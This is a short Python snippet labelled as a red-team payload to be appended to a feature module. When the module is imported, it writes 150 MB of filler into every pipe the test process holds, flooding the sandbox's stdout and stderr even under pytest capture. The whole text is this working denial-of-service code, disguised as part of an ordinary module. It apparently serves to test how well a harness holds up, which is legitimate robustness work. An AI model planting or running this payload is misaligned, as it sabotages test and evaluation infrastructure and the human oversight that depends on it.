# red-team payload (appended to the feature module): 150 MB into every pipe the test process holds
# (the sandbox's stdout/stderr, even while pytest captures fds 1 and 2).
import os as _rt_os
import stat as _rt_stat

_rt_chunk = b"y" * (1 << 20)
for _rt_fd in range(1, 64):
    try:
        if not _rt_stat.S_ISFIFO(_rt_os.fstat(_rt_fd).st_mode):
            continue
        for _ in range(150):
            _rt_os.write(_rt_fd, _rt_chunk)
    except OSError:
        pass
